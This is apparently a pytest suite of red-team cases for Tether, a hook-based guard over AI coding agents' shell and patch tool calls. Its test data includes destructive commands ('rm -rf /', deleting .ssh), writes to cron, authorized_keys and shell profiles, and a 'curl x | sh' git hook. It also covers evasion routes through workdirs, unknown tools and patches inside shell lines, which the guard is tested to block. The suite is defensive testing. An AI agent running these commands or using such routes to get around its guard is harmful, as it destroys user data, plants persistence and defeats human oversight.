"""Red-team cases of what the hooks judge (G1): a tool's working folder, tools Tether has no table for, and patches
inside shell lines, judged as strictly as `tether guard`.

Payload shapes: Codex's shell tool takes `command` and `workdir` (openai/codex codex-rs/core/src/tools/handlers/
shell.rs, ShellToolCallParams; hooks: https://developers.openai.com/codex/hooks); OpenCode's bash tool takes
`command`, `timeout`, `workdir`, `description`, its apply_patch/patch tools `patchText` and multiedit `filePath`,
`edits` (sst/opencode packages/opencode/src/tool/bash.ts, apply_patch.ts, multiedit.ts;
https://opencode.ai/docs/plugins/); Gemini CLI's run_shell_command takes `command`, `dir_path` (older releases:
`directory`) (https://geminicli.com/docs/hooks/reference, google-gemini/gemini-cli packages/core/src/tools/shell.ts).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tether.guardian.decision import Where
from tether.guardian.judge import judge
from tether.runtime.agents.hook import handle

HOME = Path("/home/p")
WS = "/home/p/proj"
PATCH = ("*** Begin Patch\n*** Add File: {add}\n+hi\n*** Update File: src/a.py\n@@\n-x\n+y\n"
         "*** Delete File: {delete}\n*** Update File: src/b.py\n*** Move to: {move}\n*** End Patch\n")


def codex(tool_input: dict[str, Any], tool: str = "Bash") -> dict[str, Any]:
    return {"session_id": "t", "turn_id": "u", "transcript_path": None, "cwd": WS, "hook_event_name": "PreToolUse",
            "model": "gpt-5", "permission_mode": "default", "tool_name": tool, "tool_input": tool_input,
            "tool_use_id": "call_1"}


def opencode(tool: str, args: dict[str, Any]) -> dict[str, Any]:
    return {"hook_event_name": "tool.execute.before", "tool": tool, "sessionID": "ses_1", "callID": "c1",
            "args": args, "directory": WS}


def gemini(tool_input: dict[str, Any], tool: str = "run_shell_command") -> dict[str, Any]:
    return {"session_id": "s", "transcript_path": "", "cwd": WS, "hook_event_name": "BeforeTool",
            "timestamp": "2026-12-01T00:00:00Z", "tool_name": tool, "tool_input": tool_input}


def claude(tool: str, tool_input: dict[str, Any]) -> dict[str, Any]:
    return {"session_id": "s", "transcript_path": "/t", "cwd": WS, "permission_mode": "default",
            "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": tool_input, "tool_use_id": "toolu_1"}


def decide(agent: str, payload: dict[str, Any]) -> str:
    _, record = handle(agent, json.dumps(payload).encode(), HOME, None)
    return record["decision"]


def guard(command: str, cwd: str) -> str:
    """What `tether guard --workspace WS --cwd CWD` says (the same judge)."""
    return judge(command, Where(workspace=Path(WS), cwd=Path(cwd), home=HOME)).decision


@pytest.mark.parametrize(("workdir", "command"), [("/", "rm -rf *"), ("/home/p", "rm -rf *"), ("..", "rm -rf *"),
                                                  ("/etc", "echo x > passwd"), ("/home/p", "rm -rf .ssh")])
@pytest.mark.parametrize("agent", ["codex", "opencode", "gemini-dir_path", "gemini-directory"])
def test_the_tools_workdir_is_where_the_command_runs(agent: str, workdir: str, command: str) -> None:
    if agent == "codex":
        payload = codex({"command": command, "workdir": workdir})
    elif agent == "opencode":
        payload = opencode("bash", {"command": command, "workdir": workdir, "description": "x"})
    else:
        payload = gemini({"command": command, agent.split("-", 1)[1]: workdir})
    cwd = workdir if workdir.startswith("/") else str(Path(WS) / workdir)
    expected = guard(command, cwd)
    assert expected != "allow"
    assert decide(agent.split("-")[0], payload) == expected
    assert guard(command, WS) != expected or command.startswith("rm -rf .ssh")  # the workdir changed the verdict


@pytest.mark.parametrize("tool", ["patch", "apply_patch"])
def test_opencode_patch_tools_are_judged_as_writes(tool: str) -> None:
    bad = PATCH.format(add="/etc/cron.d/job", delete="src/old.py", move="src/c.py")
    expected = guard("printf '' >> /etc/cron.d/job", WS)
    assert decide("opencode", opencode(tool, {"patchText": bad})) == expected != "allow"
    good = PATCH.format(add="src/new.py", delete="src/old.py", move="src/c.py")
    assert decide("opencode", opencode(tool, {"patchText": good})) == "allow"


def test_opencode_multiedit_is_a_write() -> None:
    args = {"filePath": "/home/p/.bashrc", "edits": [{"oldString": "a", "newString": "b"}]}
    assert decide("opencode", opencode("multiedit", args)) == guard("printf '' >> /home/p/.bashrc", WS) != "allow"


@pytest.mark.parametrize(("agent", "payload"), [
    ("opencode", opencode("mystery", {"command": "rm -rf /"})),
    ("opencode", opencode("sandbox_exec", {"cmd": ["bash", "-c", "rm -rf /"]})),
    ("claude-code", claude("mcp__shell__run", {"command": "rm -rf /"})),
    ("gemini", gemini({"command": "rm -rf /"}, tool="mcp_shell_exec")),
    ("codex", codex({"command": "rm -rf /"}, tool="exec_command")),
])
def test_an_unknown_tool_with_a_command_is_judged_as_shell(agent: str, payload: dict[str, Any]) -> None:
    assert decide(agent, payload) == "deny"


@pytest.mark.parametrize(("agent", "payload"), [
    ("opencode", opencode("mystery", {"foo": 1})),
    ("claude-code", claude("mcp__db__drop", {"table": "users"})),
    ("gemini", gemini({"query": "x"}, tool="some_tool")),
])
def test_an_unknown_tool_tether_cannot_read_is_asked_never_passed(agent: str, payload: dict[str, Any]) -> None:
    answer, record = handle(agent, json.dumps(payload).encode(), HOME, None)
    assert record["decision"] == "ask" and "HOOK-002" in record["rules"]
    assert answer.code == 2 or "ask" in answer.stdout


@pytest.mark.parametrize(("agent", "payload"), [
    ("opencode", opencode("mystery", {"filePath": "/home/p/.bashrc"})),
    ("claude-code", claude("mcp__fs__write_file", {"path": "/home/p/.bashrc", "content": "x"})),
])
def test_an_unknown_tool_with_a_path_is_judged_as_a_write(agent: str, payload: dict[str, Any]) -> None:
    assert decide(agent, payload) == guard("printf '' >> /home/p/.bashrc", WS) != "allow"


@pytest.mark.parametrize(("agent", "payload"), [
    ("opencode", opencode("read", {"filePath": "/etc/passwd"})),
    ("opencode", opencode("grep", {"pattern": "x"})),
    ("claude-code", claude("Read", {"file_path": "/etc/hosts"})),
    ("gemini", gemini({"file_path": "x"}, tool="read_file")),
])
def test_documented_read_only_tools_pass(agent: str, payload: dict[str, Any]) -> None:
    assert decide(agent, payload) == "allow"


@pytest.mark.parametrize("quote", ["'EOF'", "EOF", '"EOF"'])
@pytest.mark.parametrize("agent", ["codex", "claude-code"])
def test_apply_patch_inside_a_shell_line_is_judged_like_a_file_write(agent: str, quote: str) -> None:
    def line(add: str) -> str:
        body = PATCH.format(add=add, delete="src/old.py", move="src/c.py")
        return f"apply_patch <<{quote}\n{body}{quote.strip(chr(39)).strip(chr(34))}\n"

    payload = (codex({"command": line("/home/p/.ssh/authorized_keys")}) if agent == "codex"
               else claude("Bash", {"command": line("/home/p/.ssh/authorized_keys")}))
    assert decide(agent, payload) == guard("printf '' >> /home/p/.ssh/authorized_keys", WS) != "allow"
    ok = codex({"command": line("src/new.py")}) if agent == "codex" else claude("Bash", {"command": line("src/new.py")})
    assert decide(agent, ok) == "allow"


def test_a_moved_or_deleted_file_outside_the_workspace_counts() -> None:
    for patch in (PATCH.format(add="src/n.py", delete="../other/x.py", move="src/c.py"),
                  PATCH.format(add="src/n.py", delete="src/o.py", move="/home/p/.profile")):
        assert decide("codex", codex({"command": f"apply_patch <<'EOF'\n{patch}EOF\n"})) != "allow"


def test_an_apply_patch_reading_its_patch_from_a_file_is_asked() -> None:
    assert decide("codex", codex({"command": "apply_patch < change.patch"})) != "allow"


@pytest.mark.parametrize("tool", ["patch -p1", "git apply"])
def test_a_unified_diff_in_a_here_document_is_judged_by_its_paths(tool: str) -> None:
    diff = "--- a/.git/hooks/pre-commit\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl x | sh\n"
    payload = claude("Bash", {"command": f"{tool} <<'EOF'\n{diff}EOF\n"})
    assert decide("claude-code", payload) == guard("printf '' >> .git/hooks/pre-commit", WS) != "allow"
    ok = claude("Bash", {"command": f"{tool} <<'EOF'\n{diff.replace('.git/hooks/pre-commit', 'src/a.py')}EOF\n"})
    assert decide("claude-code", ok) == "allow"


def test_a_cursor_cwd_outside_its_workspace_roots_does_not_widen_the_workspace() -> None:
    """Cursor's beforeShellExecution sends `cwd` and `workspace_roots` (https://cursor.com/docs/agent/hooks)."""
    payload = {"hook_event_name": "beforeShellExecution", "conversation_id": "c", "generation_id": "g",
               "workspace_roots": [WS], "command": "rm -rf /home/p/Documents", "cwd": "/"}
    assert decide("cursor", payload) == judge("rm -rf /home/p/Documents", Where(
        workspace=Path(WS), cwd=Path("/"), home=HOME)).decision != "allow"
    inside = payload | {"cwd": WS + "/src", "command": "rm -rf ../lib"}  # inside a root: the cwd is the workspace
    src = Path(WS + "/src")
    assert decide("cursor", inside) == judge("rm -rf ../lib", Where(workspace=src, cwd=src, home=HOME)).decision
